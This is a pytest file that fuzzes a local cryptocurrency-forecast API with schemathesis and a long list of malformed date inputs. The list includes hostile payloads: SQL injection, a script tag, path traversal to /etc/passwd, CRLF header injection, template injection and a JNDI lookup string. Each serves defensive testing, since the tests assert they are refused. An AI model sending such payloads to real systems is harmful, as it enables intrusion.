"""Fuzzing the live API (Waitress on loopback): schemathesis, from the API's own OpenAPI document,
and a hand-written list of nasty dates.

Both go through every layer a client meets: Waitress, Flask and its
error handlers. schemathesis drives each operation through Hypothesis directly
(`APIOperation.as_strategy`): its lazy schemas for pytest (`schemathesis.pytest.from_fixture`)
rename test items through `Item._nodeid`, which pytest 9.2 no longer has.
"""

from __future__ import annotations

import logging
import re
from collections import Counter
from datetime import UTC, datetime
from urllib.parse import quote

import pytest
import requests
import schemathesis
from hypothesis import given, settings
from hypothesis import strategies as st
from schemathesis import Case, CheckContext, Config, GenerationMode
from schemathesis.checks import positive_data_acceptance
from werkzeug import Response

from cryptopredict.api.serving.forecast import DAY
from cryptopredict.config import ApiSettings

pytestmark = pytest.mark.slow

log = logging.getLogger(__name__)

# Per generation mode of each operation with parameters: the fewest that still fail on an empty
# parameter read as its default (the empty `format` and candle `interval` the fuzz once found:
# unseen at 10 to 15) and on a status the document does not declare (each found at 20 to 100).
EXAMPLES = 20
MIN_REQUESTS = 400
DATES = ("date", "start", "end")
LEADING_YEAR = re.compile(r"[0-9]{4}(?=-)")
# Deterministic (the same requests on every run) and without a Hypothesis database on disk.
FUZZING = settings(max_examples=EXAMPLES, derandomize=True, database=None, deadline=None)


@pytest.fixture(scope="module")
def api_schema(live_server) -> schemathesis.BaseSchema:
    # An explicit Config: no schemathesis.toml is looked for.
    return schemathesis.openapi.from_url(f"{live_server.url}/openapi.json", config=Config())


@pytest.fixture(scope="module")
def model_years(facts) -> list[int]:
    """The years the live server answers dates in, from the first bar to the horizon's end."""
    end = facts.data_end + ApiSettings().max_horizon_days * DAY
    return list(range(_year(facts.first), _year(end) + 1))


@pytest.mark.e2e
def test_fuzzing_every_operation_finds_no_server_error_and_nothing_off_the_document(
    api_schema, spec, model_years
):
    session = requests.Session()
    sent: Counter[str] = Counter()
    for result in api_schema.get_all_operations():
        operation = result.ok()
        for mode in _modes(operation):
            _fuzz(_cases(operation, mode, model_years), session, sent)
    assert set(sent) == {f"GET {path}" for path in spec["paths"]}
    assert sum(sent.values()) >= MIN_REQUESTS, sent
    log.info("fuzzed %d operations with %d requests: %s", len(sent), sum(sent.values()), sent)


def _modes(operation: schemathesis.APIOperation) -> list[GenerationMode]:
    """Positive data for every operation; negative data where there are parameters to break."""
    return list(GenerationMode) if operation.query else [GenerationMode.POSITIVE]


def _cases(
    operation: schemathesis.APIOperation, mode: GenerationMode, years: list[int]
) -> st.SearchStrategy[Case]:
    """Cases as schemathesis generates them; positive ones also with their dates moved into
    `years`, since nearly every year the pattern allows is out of the model's range (a 422).
    """
    cases = operation.as_strategy(mode)
    if mode is GenerationMode.NEGATIVE or not operation.query:
        return cases
    return cases | st.builds(_moved_into, cases, st.sampled_from(years))


def _moved_into(case: Case, year: int) -> Case:
    for name in DATES:
        value = case.query.get(name) if case.query else None
        if isinstance(value, str):
            case.query[name] = LEADING_YEAR.sub(str(year), value, count=1)
    return case


def _fuzz(cases: st.SearchStrategy[Case], session: requests.Session, sent: Counter[str]) -> None:
    @FUZZING
    @given(cases)
    def send(case: Case) -> None:
        # Every check schemathesis has (no 5xx; status code, content type, headers and body as
        # documented; schema-violating data refused; other methods refused, ...), with one narrowed.
        case.call_and_validate(
            session=session,
            excluded_checks=[positive_data_acceptance],
            additional_checks=[positive_data_is_answered],
        )
        sent[case.operation.label] += 1

    send()


def positive_data_is_answered(
    _ctx: CheckContext, response: schemathesis.Response, case: Case
) -> None:
    """schemathesis' `positive_data_acceptance`, short of what a pattern cannot say.

    The document's date pattern cannot say which dates the model answers for (the range moves
    with every training run) or how many days a month has, and the interval pattern cannot say
    which intervals are whole multiples of an asset's bars (hourly for one, daily for another).
    So a schema-valid request may be refused with a 422 naming the valid range, the point cap
    or the asset's bar interval, with a 404 saying no live minute bars are stored, or with a 400
    naming an impossible day such as 2026-02-30; anything else must be answered.
    """
    if not case.meta.generation.mode.is_positive or response.status_code == 200:
        return
    body = response.json()
    refusal = (response.status_code, body["error"])
    out_of_reach = refusal in {
        (422, "out_of_range"),
        (422, "too_many_points"),
        (422, "unsupported_interval"),
        (404, "no_minute_data"),  # /price/{asset} while the collector has stored nothing
    }
    no_such_day = refusal == (400, "bad_request") and "is not a valid date" in body["detail"]
    assert out_of_reach or no_such_day, f"a schema-valid request was refused: {body}"


# (id, value, expected status, or status by parameter) for each date parameter. Valid dates lie
# inside the fixture's history (2026-07-12 to 2026-07-26) or its horizon (to 2029-07-26).
NASTY_VALUES = [
    ("empty", "", 400),
    ("space", " ", 400),
    ("tab", "\t", 400),
    ("leading-space", " 2026-07-20", 400),
    ("trailing-space", "2026-07-20 ", 400),
    ("trailing-newline", "2026-07-20\n", 400),
    ("no-break-space", "\u00a02026-07-20", 400),
    ("zero-width-space", "2026-07-20T12:00Z\u200b", 400),
    ("huge-digits", "9" * 10_000, 400),
    ("huge-dates", "2026-07-20" * 1_000, 400),
    ("huge-fraction", "2026-07-20T12:00:00." + "0" * 10_000, 400),
    # 12 bytes each once percent-encoded: inside the proxy's 16 KiB request head (a longer one
    # is a 400 before the application sees it, tests/api/test_edge.py).
    ("huge-emoji", "\U0001f4c5" * 1_000, 400),
    ("arabic-indic-digits", "\u0662\u0660\u0662\u0666-\u0660\u0667-\u0662\u0660", 400),
    ("devanagari-digits", "\u0968\u0966\u0968\u096c-\u0966\u096d-\u0968\u0966", 400),
    ("full-width-digits", "\uff12\uff10\uff12\uff16-\uff10\uff17-\uff12\uff10", 400),
    ("superscript-digits", "\u00b2\u2070\u00b2\u2076-07-20", 400),
    ("unicode-hyphens", "2026\u201007\u201020", 400),
    ("emoji", "\U0001f4c5", 400),
    ("right-to-left-override", "\u202e02-70-6202", 400),
    ("sql", "2026-07-20' OR '1'='1", 400),
    ("sql-drop", "1; DROP TABLE forecasts; --", 400),
    ("script", "<script>alert(1)</script>", 400),
    ("path-traversal", "../../etc/passwd", 400),
    ("encoded-path-traversal", "..%2F..%2Fetc%2Fpasswd", 400),
    ("nul", "\x00", 400),
    ("nul-after-date", "2026-07-20\x00", 400),
    ("crlf-header", "2026-07-20\r\nSet-Cookie: pwned=1", 400),
    ("json-breakout", '2026-07-20"}', 400),
    ("template", "{{7*7}}", 400),
    ("format-string", "%s%s%s%n", 400),
    ("jndi", "${jndi:ldap://example.invalid/a}", 400),
    ("year-0", "0000-01-01", 400),
    ("year-1", "0001-01-01", 422),
    ("year-1-east-of-utc", "0001-01-01T00:00+01:00", 422),
    ("year-99999", "99999-01-01", 400),
    ("year-9999-last-second", "9999-12-31T23:59:59", 422),
    ("year-9999-last-second-utc", "9999-12-31T23:59:59Z", 422),
    ("year-9999-west-of-utc", "9999-12-31T23:59:59-23:59", 422),
    ("negative-year", "-2026-07-20", 400),
    ("negative-year-1", "-0001-01-01", 400),
    ("expanded-year", "+002026-07-20", 400),
    ("offset-half-hour", "2026-07-20T12:00+05:30", 200),
    ("offset-compact", "2026-07-20T12:00+0530", 200),
    ("offset-hours-only", "2026-07-20T12:00+05", 200),
    ("offset-zero", "2026-07-20T12:00+00:00", 200),
    ("offset-seconds", "2026-07-20T12:00+00:00:30", 400),
    ("offset-24h", "2026-07-20T12:00+24:00", 400),
    ("offset-minus-24h", "2026-07-20T12:00-24:00", 400),
    ("offset-60-minutes", "2026-07-20T12:00+05:60", 400),
    ("offset-fractional", "2026-07-20T12:00+05:30.5", 400),
    ("offset-after-space", "2026-07-20T12:00 +05:30", 400),
    ("nanoseconds", "2026-07-20T12:00:00.123456789Z", 200),
    ("ten-fraction-digits", "2026-07-20T12:00:00.1234567890Z", 400),
    # `end` alone starts the range at the first bar: too many points to 2028.
    ("leap-day", "2028-02-29", {"date": 200, "start": 200, "end": 422}),
    ("leap-day-of-a-common-year", "2027-02-29", 400),
    ("february-30", "2026-02-30", 400),
    ("april-31", "2026-04-31", 400),
    ("month-13", "2026-13-01", 400),
    ("month-0", "2026-00-10", 400),
    ("day-0", "2026-07-00", 400),
    ("hour-24", "2026-07-20T24:00", 400),
    ("leap-second", "2026-07-20T23:59:60", 400),
    ("epoch-seconds", "1784548800", 400),
    ("epoch-milliseconds", "1784548800000", 400),
    ("epoch-zero", "0", 400),
    ("negative-epoch", "-1", 400),
    ("scientific-epoch", "1.7845488e9", 400),
    ("nan", "NaN", 400),
    ("infinity", "Infinity", 400),
    ("lowercase-t-and-z", "2026-07-20t12:00:00z", 200),
    ("lowercase-t", "2026-07-20t12:00", 200),
    ("lowercase-z", "2026-07-20T12:00:00z", 200),
    ("iso-week", "2026-W30-1", 400),
    ("ordinal-day", "2026-201", 400),
    ("basic-format", "20260720T120000Z", 400),
    ("slashes", "2026/07/20", 400),
    ("words", "July 20, 2026", 400),
    ("now", "now", 400),
    ("null", "null", 400),
    ("json-array", "[]", 400),
]
# (id, query with `{name}` for the parameter, expected status): what a value cannot say.
NASTY_QUERIES = [
    ("repeated", "{name}=a&{name}=b", 400),
    ("repeated-valid", "{name}=2026-07-20&{name}=2026-07-21", 400),
    ("repeated-empty", "{name}=&{name}=", 400),
    ("without-equals", "{name}", 400),
    ("plus-as-space", "{name}=2026-07-20+12:00", 200),
    ("encoded-ampersand", "{name}=2026-07-20%26{name}%3D2026-07-21", 400),
    ("undecodable-bytes", "{name}=%FF%FE", 400),
    ("overlong-utf8", "{name}=%C0%AE%C0%AE%2F", 400),
    ("lowercase-crlf", "{name}=2026-07-20%0d%0aX-Injected:%201", 400),
    ("bare-percent", "{name}=2026-07-20%", 400),
]
NASTY = [(id_, f"{{name}}={quote(value, safe='')}", status) for id_, value, status in NASTY_VALUES]
NASTY += NASTY_QUERIES
PATHS = {"date": "/bitcoin", "start": "/bitcoin/forecast", "end": "/bitcoin/forecast"}


@pytest.mark.parametrize("name", DATES)
@pytest.mark.parametrize(
    ("query", "status"), [pytest.param(query, status, id=id_) for id_, query, status in NASTY]
)
def test_nasty_dates_get_a_documented_json_answer(live_server, conforms, name, query, status):
    path = PATHS[name]
    answer = requests.get(f"{live_server.url}{path}?{query.format(name=name)}", timeout=30)
    expected = status[name] if isinstance(status, dict) else status
    assert answer.status_code == expected, answer.text[:300]
    assert answer.headers["Content-Type"] == "application/json"
    body = answer.json()
    if expected != 200:
        assert set(body) == {"error", "detail"}
    conforms(path, _as_flask(answer))
    # A line break in a value never becomes a header of the answer.
    assert "Set-Cookie" not in answer.headers
    assert "X-Injected" not in answer.headers


def _as_flask(answer: requests.Response) -> Response:
    """The answer in the shape the `conforms` fixture reads."""
    return Response(answer.content, answer.status_code, content_type=answer.headers["Content-Type"])


def _year(epoch: float) -> int:
    return datetime.fromtimestamp(epoch, UTC).year
